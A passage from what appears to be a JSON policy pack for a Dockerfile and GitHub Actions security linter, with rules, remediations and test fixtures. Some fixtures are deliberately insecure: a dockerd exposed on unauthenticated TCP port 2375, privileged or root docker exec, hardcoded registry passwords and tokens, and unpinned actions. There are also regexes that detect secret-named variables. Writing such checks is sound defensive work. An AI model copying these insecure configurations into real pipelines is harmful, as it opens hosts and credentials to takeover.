CMD, ENTRYPOINT or HEALTHCHECK; only the last of each takes effect, so the earlier ones mislead whoever reads the file. Keep one of each.","rationale":"An image has a single CMD, ENTRYPOINT and HEALTHCHECK; each new one replaces the previous one in the same stage. Leftover instructions usually come from copy-paste or a merge and make a reader believe the container starts differently than it does. BuildKit\'s MultipleInstructionsDisallowed check reports them.","remediation":"```dockerfile\\nENTRYPOINT [\\"/app/server\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```","references":[{"framework":"docker-build-check","id":"MultipleInstructionsDisallowed"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/multiple-instructions-disallowed/"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim AS app\\nCOPY . /app\\nCMD [\\"node\\", \\"/app/server.js\\"]\\nCMD [\\"node\\", \\"/app/worker.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":18}]},{"file":"Dockerfile","content":"FROM node:22-slim AS build\\nCMD [\\"npm\\", \\"test\\"]\\n\\nFROM node:22-slim\\nHEALTHCHECK CMD [\\"node\\", \\"/app/health.js\\"]\\nCMD [\\"node\\", \\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-multiple-cmd-entrypoint.yaml"},{"id":"dockerfile-package-cache-kept","pack":"dockerfile-hygiene","title":"Package manager cache left in the image","severity":"info","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args","flags"],"properties":{"keyword":{"const":"RUN"},"args":{"anyOf":[{"allOf":[{"contains":{"const":"apk"}},{"contains":{"const":"add"}},{"not":{"contains":{"const":"--no-cache"}}}]},{"allOf":[{"contains":{"enum":["pip","pip3"]}},{"contains":{"const":"install"}},{"not":{"contains":{"const":"--no-cache-dir"}}}]}]},"flags":{"not":{"required":["mount"],"properties":{"mount":{"contains":{"pattern":"type=cache"}}}}}}}}}}},"message":"This RUN in stage {{name}} leaves apk\'s or pip\'s download cache in the layer, adding size and nothing else to the image. Add `--no-cache` (apk) or `--no-cache-dir` (pip), or use a BuildKit cache mount.","rationale":"`apk add` keeps the package index under /var/cache/apk and pip keeps every downloaded wheel under ~/.cache/pip unless told not to. In an image these are dead weight (often tens of megabytes) and go stale immediately. Docker\'s best practices recommend keeping caches out of layers, either by not writing them or by using cache mounts, which persist between builds without entering the image.","remediation":"```dockerfile\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\n# or share the cache between builds without putting it in a layer:\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements.txt\\n```","references":[{"framework":"url","url":"https://docs.docker.com/build/cache/optimize/#use-cache-mounts"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#run"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM python:3.12-alpine\\nRUN apk add git=2.45.2-r0\\nRUN pip install -r requirements.txt\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":26},{"line":3,"column":1}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM python:3.12-alpine\\nRUN apk add --no-cache git=2.45.2-r0\\nRUN pip install --no-cache-dir -r requirements.txt\\nRUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements-dev.txt\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-package-cache-kept.yaml"},{"id":"dockerfile-shell-form-cmd","pack":"dockerfile-hygiene","title":"CMD or ENTRYPOINT in shell form","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["CMD","ENTRYPOINT"]}}},"then":{"properties":{"form":{"const":"json"}}}}}}},"message":"This CMD or ENTRYPOINT in stage {{name}} uses shell form, so the program runs under `/bin/sh -c` and never receives `docker stop`\'s SIGTERM: it is killed after the timeout instead of shutting down cleanly. Write it as a JSON array, e.g. `CMD [\\"node\\", \\"server.js\\"]`.","rationale":"In shell form Docker runs `/bin/sh -c \\"<command>\\"`, so the shell is PID 1 and the application a child that does not get the signals sent to the container. Graceful shutdown, connection draining and flushing of writes are skipped, and a shell must exist in the image. BuildKit\'s JSONArgsRecommended check and Docker\'s best practices recommend the exec (JSON) form.","remediation":"```dockerfile\\nENTRYPOINT [\\"/usr/local/bin/app\\"]\\nCMD [\\"--port\\", \\"8080\\"]\\n```\\n\\nIf shell features are needed, use `exec` so the program replaces the shell:\\n`CMD [\\"/bin/sh\\", \\"-c\\", \\"exec node server.js --port \\\\\\"$PORT\\\\\\"\\"]`.","references":[{"framework":"docker-build-check","id":"JSONArgsRecommended"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/json-args-recommended/"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#shell-and-exec-form"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nCMD node /app/server.js\\n","expect":[{"line":3,"column":1,"endLine":3,"endColumn":24}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY . /app\\nENTRYPOINT [\\"node\\"]\\nCMD [\\"/app/server.js\\"]\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-shell-form-cmd.yaml"},{"id":"dockerfile-workdir-relative","pack":"dockerfile-hygiene","title":"WORKDIR is a relative path","severity":"low","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"const":"WORKDIR"}}},"then":{"properties":{"args":{"prefixItems":[{"pattern":"^(/|\\\\$|[A-Za-z]:[\\\\\\\\/])"}]}}}}}}},"message":"`WORKDIR {{value}}` is relative, so where it lands depends on the base image\'s working directory, which can change with an update of that image. Write an absolute path, e.g. `WORKDIR /app`.","rationale":"A relative WORKDIR is resolved against the previous working directory, which for the first one in a stage is whatever the base image set. When the base image changes its WORKDIR, files are copied and commands run somewhere else, with no change in this Dockerfile. BuildKit\'s WorkdirRelativePath check and Docker\'s best practices ask for absolute paths.","remediation":"```dockerfile\\nWORKDIR /app\\n```","references":[{"framework":"docker-build-check","id":"WorkdirRelativePath"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/workdir-relative-path/"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#workdir"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR app\\nCOPY . .\\n","expect":[{"line":2,"column":9,"endLine":2,"endColumn":12}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG APP_HOME=/srv/app\\nWORKDIR /app\\nWORKDIR ${APP_HOME}\\n","expect":[]}],"source":"policies/dockerfile-hygiene/dockerfile-workdir-relative.yaml"}],"source":"policies/dockerfile-hygiene"},{"id":"workflows","title":"GitHub Actions workflow security","description":"What GitHub\'s security hardening guidance, the OWASP Docker Security Cheat Sheet\'s supply-chain rule and OpenSSF Scorecard ask of GitHub Actions workflows and composite actions: actions and reusable workflows pinned to immutable commits, and the jobs that build and run containers kept from trusting what they should not.","version":"0.1.0","rules":[{"id":"action-not-pinned","pack":"workflows","title":"Action or reusable workflow not pinned to a commit SHA","severity":"medium","subject":"action-ref","when":{"properties":{"isLocal":{"const":false},"isDocker":{"const":false}},"not":{"required":["owner"],"properties":{"owner":{"enum":{"$param":"exemptOwners"}}}}},"schema":{"properties":{"isSha":{"const":true}}},"message":"`{{subject.uses}}` points at a tag or branch, which its owner (or whoever compromises the repository) can move to different code that then runs with this job\'s token and secrets. Pin the full 40-character commit SHA and keep the version in a comment, e.g. `uses: actions/checkout@<sha> # v4.2.2`.","rationale":"A tag such as `v4` or a branch such as `main` is a mutable pointer: the next run fetches whatever commit it points to at that moment, so one compromised or careless upstream release reaches every workflow that uses it, with access to its `GITHUB_TOKEN`, its secrets and the code it builds and publishes (as in the tj-actions/changed-files compromise of 2025). A full commit SHA is the only immutable reference GitHub accepts. GitHub\'s security hardening guide and the OWASP cheat sheet\'s supply-chain rule recommend pinning; OpenSSF Scorecard scores it. Teams that trust GitHub\'s own actions may exempt their owners with the `exemptOwners` parameter, e.g. `[actions, github]`.","remediation":"Replace the tag with the commit it currently resolves to and keep the tag as a comment, so that\\nDependabot or Renovate can propose updates:\\n\\n```yaml\\nsteps:\\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\\njobs:\\n  release:\\n    uses: example/shared-workflows/.github/workflows/release.yml@<40-hex sha> # v1.3.0\\n```\\n\\nEnable Dependabot for `package-ecosystem: github-actions` so pinned actions are kept current.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"}],"params":{"exemptOwners":[]},"paramSchemas":{"exemptOwners":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Owners (as written in `uses:`, case-sensitive) whose actions need no SHA pin, e.g. [actions, github]. The default exempts nobody."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@v4\\n      - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0\\n      - name: Lint\\n        uses: \\"github/super-linter/slim@main\\"\\n      - uses: docker/build-push-action@11bd719\\n      - uses: ./.github/actions/setup\\n      - uses: docker://alpine:3.20\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":34},{"line":9,"column":9},{"line":10,"column":9}]},{"file":".github/workflows/release.yml","content":"on:\\n  push:\\n    tags: [\\"v*\\"]\\njobs:\\n  shared:\\n    uses: example/shared-workflows/.github/workflows/release.yml@v1\\n    secrets: inherit\\n  local:\\n    uses: ./.github/workflows/build.yml\\n  pinned:\\n    uses: example/shared-workflows/.github/workflows/scan.yml@0123456789abcdef0123456789abcdef01234567\\n","expect":[{"line":6,"column":5}]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - uses: ./\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: npm test\\n","expect":[]},{"file":"action.yml","content":"name: Setup\\ndescription: Sets up the toolchain\\nruns:\\n  using: composite\\n  steps:\\n    - uses: actions/cache@v4\\n      with:\\n        path: ~/.npm\\n        key: npm\\n    - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a\\n    - run: npm ci\\n      shell: bash\\n","expect":[{"line":6,"column":7}]}],"source":"policies/workflows/action-not-pinned.yaml"},{"id":"command-docker-daemon-tcp-without-tls","pack":"workflows","title":"Docker daemon reached or exposed over plain TCP in a script","severity":"high","subject":"command","when":{"properties":{"origin":{"enum":["workflow","action"]}}},"schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}},"docker":{"properties":{"globalFlags":{"properties":{"host":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}}}},"if":{"properties":{"name":{"const":"dockerd"}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"plaintextHost"}}}}}}},"message":"This script talks to (or starts) a Docker daemon on plain TCP port 2375: that API has no authentication, so anything that can reach the port can start a privileged container and own the machine. Use the local socket, or `tcp://\u2026:2376` with `--tlsverify` and client certificates.","rationale":"The Docker API is root-equivalent. On the Unix socket it is protected by file permissions; on TCP without TLS it is open to every process and host that can reach the port, with no authentication, and traffic can be read or altered in transit. Exposed daemons on 2375 are actively scanned for and turned into crypto-miners within minutes. Docker\'s documentation and the OWASP cheat sheet (rule 1) require TLS with client certificates (port 2376) or SSH when the daemon must be reached remotely.","remediation":"Keep using the local socket, or protect the TCP endpoint:\\n\\n```yaml\\n- run: docker --tlsverify -H tcp://docker.example.com:2376 ps\\n  env:\\n    DOCKER_CERT_PATH: ${{ runner.temp }}/docker-certs\\n```\\n\\nFor remote builders, `DOCKER_HOST=ssh://deploy@builder.example.com` uses SSH instead.","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^(--host=|-H)?tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A Docker host on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          sudo dockerd -H unix:///var/run/docker.sock -H tcp://0.0.0.0:2375 &\\n          DOCKER_HOST=tcp://127.0.0.1:2375 docker ps\\n          docker -H tcp://10.0.0.5 info\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":78},{"line":8,"column":11},{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker --tlsverify -H tcp://docker.example.com:2376 ps\\n          DOCKER_HOST=ssh://deploy@builder.example.com docker info\\n","expect":[]}],"source":"policies/workflows/command-docker-daemon-tcp-without-tls.yaml"},{"id":"command-docker-exec-privileged","pack":"workflows","title":"docker exec runs privileged or as root","severity":"medium","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"exec"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"privileged":{"items":{"not":{"enum":["true","1","t","T","TRUE","True"]}}},"user":{"items":{"not":{"pattern":{"$param":"rootUser"}}}}}}}}}},"message":"`docker exec` here runs with `{{key}}` set to `{{value}}`, handing the command more power than the container itself was given (every capability with `--privileged`, root with `-u root`). Run it as the container\'s own user and without `--privileged`.","rationale":"`docker exec --privileged` gives the new process every capability and device access even in a container that was started unprivileged, and `docker exec -u root` bypasses the container\'s non-root USER. Either undoes the hardening the container was started with, for a command that often processes untrusted input in CI. The CIS Docker Benchmark asks that exec commands not use the privileged option (5.23) or the root user (5.24).","remediation":"```yaml\\n- run: docker exec app ./manage.py migrate\\n```\\n\\nIf a task needs root, build it into the image or run a separate, short-lived container for it.","references":[{"framework":"cis-docker","id":"1.6.0:5.23"},{"framework":"cis-docker","id":"1.6.0:5.24"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--user` value that means root: the name or UID, with or without a group."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d --name app ghcr.io/example/app:1.4.2\\n          docker exec --privileged app mount -t tmpfs none /mnt\\n          docker exec -u root app apt-get install -y curl\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":64},{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker exec app ./manage.py migrate\\n          docker exec -u 10001 app id\\n","expect":[]}],"source":"policies/workflows/command-docker-exec-privileged.yaml"},{"id":"command-docker-login-password","pack":"workflows","title":"docker login with a password written in the script","severity":"high","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"login"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"password":{"items":{"pattern":{"$param":"expression"}}}}}}}}},"message":"`docker login` is given a password written in the script, so it is in the repository for anyone to read, and `-p` also puts it in the process list. Pipe a secret in instead: `echo \\"${{ secrets.REGISTRY_TOKEN }}\\" | docker login -u bot --password-stdin ghcr.io`, or use docker/login-action.","rationale":"A password written in a workflow\'s `run:` script is committed to the repository\'s history, visible to everyone with read access and copied into every fork, and it cannot be masked in logs because GitHub does not know it is a secret. Docker itself warns that `--password` on the command line is insecure: the value shows up in `ps` and shell history. The OWASP cheat sheet (rule 12) asks that secrets be kept out of files and command lines.","remediation":"```yaml\\n- name: Log in to the registry\\n  run: echo \\"$REGISTRY_TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n  env:\\n    REGISTRY_TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n```\\n\\nor `uses: docker/login-action@<sha>` with `password: ${{ secrets.REGISTRY_TOKEN }}`. Rotate the\\npassword that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/login/#password-stdin"}],"params":{"expression":"\\\\$"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A password value that comes from somewhere else (an expression or a shell variable) rather than being written in the file."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker login -u ci-bot -p \'hunter2-hunter2\' registry.example.com\\n          docker push registry.example.com/app:1.4.2\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":75}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \\"$TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n        env:\\n          TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n      - run: docker login -u ci-bot --password \\"$TOKEN\\" registry.example.com\\n","expect":[]}],"source":"policies/workflows/command-docker-login-password.yaml"},{"id":"container-registry-password-literal","pack":"workflows","title":"Registry password written in a job or service container\'s credentials","severity":"high","subject":"container","when":{"required":["credentials"],"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"credentials":{"properties":{"password":{"pattern":{"$param":"expression"}}}}}},"message":"{{name}} writes its registry password into the workflow, where everyone who can read the repository (and every fork) can copy it. Store it as an encrypted secret and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.","rationale":"A password in a workflow file is committed to the repository\'s history, copied into forks and visible to anyone with read access; rotating it does not remove the old value from history. GitHub encrypts repository and organisation secrets, masks them in logs and withholds them from workflows triggered by forks. For GitHub Container Registry, the job\'s own `GITHUB_TOKEN` needs no stored password at all. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nThen rotate the password that was committed: it stays in the repository\'s history.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials"}],"params":{"expression":"\\\\$\\\\{\\\\{"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that comes from somewhere else: a `${{ secrets.X }}` (or any other) expression."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: registry.example.com/ci/node:22\\n      credentials:\\n        username: ci-bot\\n        password: hunter2-hunter2\\n    services:\\n      db:\\n        image: registry.example.com/ci/postgres:16\\n        credentials:\\n          username: ci-bot\\n          password: ${{ secrets.REGISTRY_PASSWORD }}\\n    steps:\\n      - run: npm test\\n","expect":[{"line":9,"column":9,"endLine":9,"endColumn":34}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/container-registry-password-literal.yaml"},{"id":"workflow-container-literal-secret","pack":"workflows","title":"Secret written into a job or service container\'s env","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?=[A-Za-z0-9_]*$)(?![A-Za-z0-9_]*(?:^|_)(?:PUBLIC|public|Public)(?:_|$))(?![A-Za-z0-9_]*_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode)$)(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the workflow. For a throwaway test database that is harmless, but a real credential is now readable by everyone with access to the repository. Use `${{ secrets.\u2026 }}` for anything that is not a disposable test value.","rationale":"Service containers in CI usually get a made-up password for a database that lives for one job, which is why this rule is low severity. The same place is also where real credentials for licensed images, external services or shared test environments end up, and a value written in the workflow is committed, visible to every reader and fork, and not masked in logs. The OWASP cheat sheet (rule 12) asks that secrets never be written into configuration files.","remediation":"```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    env:\\n      POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}   # or a disposable value, suppressed\\n```\\n\\nA disposable value can be kept with an inline suppression that says so:\\n`# containment: ignore[workflow-container-literal-secret] throwaway CI database`.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: an expression or a shell variable."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      env:\\n        NPM_TOKEN: npm_abcdefghijklmnop\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_USER: app\\n          POSTGRES_PASSWORD: postgres\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":40},{"line":14,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}\\n          POSTGRES_HOST_AUTH_METHOD: trust\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-container-literal-secret.yaml"},{"id":"workflow-docker-daemon-tcp-without-tls","pack":"workflows","title":"Workflow step points Docker at, or exposes, a daemon on plain TCP","severity":"medium","subject":"workflow.step","schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}}},"if":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/setup-docker-action(@|$)"}}},"then":{"properties":{"with":{"properties":{"tcp-port":false}}}}},"message":"This step sets `{{key}}` so that Docker is reached over plain TCP, where its API has no authentication: anything that can reach the port can start privileged containers on that daemon. Use the local socket (the default), or TLS on port 2376 with client certificates.","rationale":"The Docker API is root-equivalent, and on TCP without TLS anyone who can reach the port can use it. A `DOCKER_HOST=tcp://\u2026:2375` in a workflow usually points at a Docker-in-Docker service or a remote builder whose port is then open to every container and process on that network. The OWASP cheat sheet (rule 1) asks never to expose the daemon without TLS.","remediation":"Leave `DOCKER_HOST` unset to use the runner\'s socket, or use TLS:\\n\\n```yaml\\nenv:\\n  DOCKER_HOST: tcp://docker:2376\\n  DOCKER_TLS_VERIFY: \\"1\\"\\n  DOCKER_CERT_PATH: /certs/client\\n```","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `DOCKER_HOST` on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          tcp-port: 2375\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://localhost:2375\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":25},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          set-host: true\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://docker:2376\\n          DOCKER_TLS_VERIFY: \\"1\\"\\n","expect":[]}],"source":"policies/workflows/workflow-docker-daemon-tcp-without-tls.yaml"},{"id":"workflow-image-push-without-attestations","pack":"workflows","title":"Image pushed without SBOM and provenance attestations","severity":"low","subject":"workflow.step","when":{"required":["uses","with"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"},"with":{"required":["push"],"properties":{"push":{"const":"true"}}}}},"schema":{"properties":{"with":{"required":["sbom"],"properties":{"sbom":{"const":"true"},"provenance":{"not":{"enum":["false","0"]}}}}}},"message":"This step pushes an image without {{key}} attestations, so consumers cannot verify how it was built or see what it contains when a vulnerability is announced. Add `sbom: true` and keep provenance on (`provenance: mode=max`).","rationale":"An SBOM attestation lists the packages in the image, which lets scanners and consumers answer \\"are we affected?\\" without pulling and unpacking it. A provenance attestation records the source repository, commit, build parameters and builder, which lets consumers check that the image was built from this repository by this workflow. BuildKit attaches both to the pushed image; docker/build-push-action adds provenance by default (`mode=max` for public repositories, `mode=min` for private ones) unless `provenance: false`, but an SBOM only with `sbom: true`. The OWASP cheat sheet\'s supply-chain rule (13) and Docker Scout rely on them.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    sbom: true\\n    provenance: mode=max\\n```","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/attestations/"},{"framework":"url","url":"https://docs.docker.com/build/metadata/attestations/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          provenance: false\\n","expect":[{"line":7,"column":9,"endLine":7,"endColumn":13},{"line":10,"column":11,"endLine":10,"endColumn":28}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          sbom: true\\n          provenance: mode=max\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: false\\n          load: true\\n          tags: app:test\\n","expect":[]}],"source":"policies/workflows/workflow-image-push-without-attestations.yaml"},{"id":"workflow-job-permissions-write-all","pack":"workflows","title":"Job grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow.job","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"Job {{name}} sets `permissions: write-all`, so every step in it, including third-party actions, holds a token that can push code, publish packages and change releases. List only the scopes this job needs, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step of the job. `write-all` turns any compromised action or injected script into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idpermissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions: write-all\\n    steps:\\n      - run: make release\\n","expect":[{"line":7,"column":5,"endLine":7,"endColumn":27}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-job-permissions-write-all.yaml"},{"id":"workflow-login-action-password-literal","pack":"workflows","title":"docker/login-action given a password written in the workflow","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/login-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"password":{"pattern":"^$|\\\\$\\\\{\\\\{"}}}}},"message":"This docker/login-action step writes the registry password into the workflow, where everyone who can read the repository can copy it. Store it as a secret and write `password: ${{ secrets.REGISTRY_TOKEN }}` (or `${{ secrets.GITHUB_TOKEN }}` for ghcr.io).","rationale":"docker/login-action masks the password only when it comes from a secret; a literal value is part of the committed file, visible to every reader and fork and kept in history after it is changed. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\n- uses: docker/login-action@<full commit sha> # v3\\n  with:\\n    registry: ghcr.io\\n    username: ${{ github.actor }}\\n    password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nRotate the password that was committed.","references":[{"framework":"owasp-docker","id":"RULE 